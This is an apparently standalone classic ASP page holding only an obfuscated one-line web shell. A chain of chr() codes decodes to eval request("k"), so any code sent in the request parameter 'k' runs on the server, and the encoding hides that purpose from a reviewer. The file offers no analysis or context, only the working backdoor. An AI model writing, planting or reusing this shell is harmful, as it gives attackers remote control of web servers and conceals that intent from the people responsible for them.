<%
execute(chr(101)&chr(118)&chr(97)&chr(108)&chr(32)&chr(114)&chr(101)&chr(113)&chr(117)&chr(101)&chr(115)&chr(116)&chr(40)&chr(34)&chr(107)&chr(34)&chr(41))
%>
